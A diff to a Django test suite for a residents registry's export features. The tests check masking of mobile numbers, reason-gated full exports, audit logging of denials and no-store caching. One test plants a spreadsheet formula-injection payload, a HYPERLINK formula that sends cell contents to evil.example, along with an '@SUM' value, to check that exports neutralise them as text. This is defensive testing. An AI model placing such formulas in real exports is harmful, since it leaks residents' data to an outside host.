@@ -15,6 +15,7 @@ from django.urls import reverse
 
 from linli.core.masking import mask_mobile
 from linli.core.models import AuditRecord
+from linli.registry.models import Household, Resident
 
 from .. import factories as f
 from ..services import app_helpers as h
@@ -135,11 +136,11 @@ def test_households_not_reached(v, clients):
 # --- exports ------------------------------------------------------------------------------
 
 
-def _workbook(response):
+def _workbook(response, *, read_only: bool = True):
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     assert "attachment" in response["Content-Disposition"]
-    return openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
+    return openpyxl.load_workbook(io.BytesIO(response.content), read_only=read_only)
 
 
 def test_coverage_export_has_a_row_per_child_and_the_total(v, clients):
@@ -169,14 +170,80 @@ def test_not_reached_export_is_masked_for_a_leader_who_may_not_reveal(v, clients
     assert record.changes["masked"] is True and record.changes["rows"] == len(numbers)
 
 
-def test_not_reached_export_is_full_for_who_may_reveal_and_logged_as_a_reveal(v, clients):
+def test_not_reached_export_by_link_is_masked_even_for_who_may_reveal(v, clients):
     response = clients["street_cadre"].get(_url("visits:not_reached_export", v.world.streets[0]))
+    rows = list(_workbook(response).worksheets[0].iter_rows(values_only=True))
+    never = next(r for r in rows if r[0] == v.never.number)
+    assert never[4] == mask_mobile(v.never.head.mobile) and "困难户" not in (never[5] or "")
+    record = AuditRecord.objects.get(action="export")
+    assert record.changes["masked"] is True and record.reason == ""
+
+
+def test_not_reached_export_with_full_numbers_is_a_post_with_a_reason(v, clients):
+    url = _url("visits:not_reached_export", v.world.streets[0])
+    response = clients["street_cadre"].post(url, {"reason": "核对联系电话"})
     rows = list(_workbook(response).worksheets[0].iter_rows(values_only=True))
     never = next(r for r in rows if r[0] == v.never.number)
     assert never[4] == v.never.head.mobile and "困难户" in never[5]
     assert v.far.number not in [r[0] for r in rows]
     record = AuditRecord.objects.get(action="reveal", object_id=str(v.world.streets[0].pk))
-    assert record.changes["masked"] is False
+    assert record.changes["masked"] is False and record.reason == "核对联系电话"
+    assert record.changes["rows"] == len(rows) - 1
+    assert record.actor == v.users["street_cadre"]
+
+
+def test_not_reached_export_with_full_numbers_needs_a_reason_and_reveal(v, clients):
+    url = _url("visits:not_reached_export", v.world.streets[0])
+    refused = clients["street_cadre"].post(url, {"reason": " "})
+    assert refused.status_code == 400 and "Content-Disposition" not in refused
+    assert "Please state why the export needs the full ID and mobile numbers" in html(refused)
+    assert 'data-testid="full-export"' in html(refused)
+    leader = clients["district_leader"].post(
+        _url("visits:not_reached_export", v.world.district), {"reason": "核对联系电话"}
+    )
+    assert leader.status_code == 403 and "Content-Disposition" not in leader
+    assert not AuditRecord.objects.filter(action__in=["export", "reveal"]).exists()
+    denial = AuditRecord.objects.get(action="denied", actor=v.users["district_leader"])
+    assert denial.changes["method"] == "POST" and denial.changes["status"] == 403
+
+
+def test_the_not_reached_page_offers_the_full_export_only_to_who_may_reveal(v, clients):
+    page = html(clients["street_cadre"].get(_url("visits:not_reached", v.world.streets[0])))
+    assert 'data-testid="full-export"' in page
+    assert f'action="{reverse("visits:not_reached_export")}?period=12m&amp;area=' in page
+    leaders = html(clients["district_leader"].get(_url("visits:not_reached", v.world.district)))
+    assert reverse("visits:not_reached_export") in leaders
+    assert 'data-testid="full-export"' not in leaders
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+
+
+def test_a_formula_in_an_address_or_a_name_comes_out_as_text(v, clients):
+    Household.objects.filter(pk=v.never.pk).update(address=HYPERLINK)
+    Resident.objects.filter(pk=v.never.head_id).update(name="@SUM(1+1)")
+    url = _url("visits:not_reached_export", v.world.streets[0])
+    for response in (
+        clients["street_cadre"].get(url),
+        clients["street_cadre"].post(url, {"reason": "核对联系电话"}),
+    ):
+        sheet = _workbook(response, read_only=False).worksheets[0]
+        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == v.never.number)
+        for cell, text in ((row[2], HYPERLINK), (row[3], "@SUM(1+1)")):
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+
+
+def test_every_export_is_kept_from_caches(v, clients):
+    street = v.world.streets[0]
+    for response in (
+        clients["district_leader"].get(_url("visits:coverage_export", v.world.district)),
+        clients["street_cadre"].get(_url("visits:not_reached_export", street)),
+        clients["street_cadre"].post(
+            _url("visits:not_reached_export", street), {"reason": "核对联系电话"}
+        ),
+    ):
+        _workbook(response)
+        assert "no-store" in response["Cache-Control"]
 
 
 def test_exports_outside_the_scope(v, clients):
@@ -184,7 +251,15 @@ def test_exports_outside_the_scope(v, clients):
     for name in ("visits:coverage_export", "visits:not_reached_export"):
         assert clients["community_worker"].get(_url(name, far)).status_code == 404
         assert clients["administrator"].get(_url(name)).status_code == 403
+    far_post = clients["community_worker"].post(
+        _url("visits:not_reached_export", far), {"reason": "核对联系电话"}
+    )
+    assert far_post.status_code == 404
     assert not AuditRecord.objects.filter(action__in=["export", "reveal"]).exists()
+    # Each refusal of another area is in the audit trail, naming the area asked for.
+    denials = AuditRecord.objects.filter(action="denied", actor=v.users["community_worker"])
+    assert denials.count() == 3
+    assert {(d.object_type, d.object_id) for d in denials} == {("core.area", str(far.pk))}
 
 
 def test_not_reached_costs_the_same_at_few_and_many_rows(v, clients):
